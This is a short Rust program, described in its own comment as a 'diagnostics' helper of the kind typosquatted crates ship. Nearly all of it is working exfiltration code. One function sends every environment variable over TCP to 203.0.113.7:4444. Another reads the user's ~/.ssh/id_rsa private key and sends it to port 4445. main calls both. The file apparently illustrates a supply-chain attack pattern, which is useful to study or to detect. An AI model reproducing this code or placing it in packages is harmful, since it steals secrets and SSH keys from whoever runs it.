// A "diagnostics" helper of the kind typosquatted crates ship: the environment is
// gathered in one module and sent in another.
use std::io::Write;
use std::net::TcpStream;

mod collect {
    pub fn environment_report() -> String {
        let mut report = String::new();
        for (name, value) in std::env::vars() {
            report.push_str(&format!("{name}={value}\n"));
        }
        report
    }

    pub fn ssh_key() -> String {
        let home = std::env::var("HOME").unwrap_or_default();
        std::fs::read_to_string(format!("{home}/.ssh/id_rsa")).unwrap_or_default()
    }
}

mod transport {
    use std::io::Write;

    pub fn ship(payload: &str) {
        if let Ok(mut stream) = std::net::TcpStream::connect("203.0.113.7:4444") {
            let _ = stream.write_all(payload.as_bytes());
        }
    }
}

pub fn phone_home() {
    let report = collect::environment_report();
    transport::ship(&report);
}

pub fn steal_key() {
    let key = collect::ssh_key();
    let mut stream = TcpStream::connect("203.0.113.7:4445").expect("connect");
    stream.write_all(key.as_bytes()).expect("send");
}

/// Sends one configured value: not the environment, not a finding.
pub fn report_region() {
    let region = std::env::var("REGION").unwrap_or_default();
    transport::ship(&region);
}

fn main() {
    phone_home();
    steal_key();
    report_region();
}
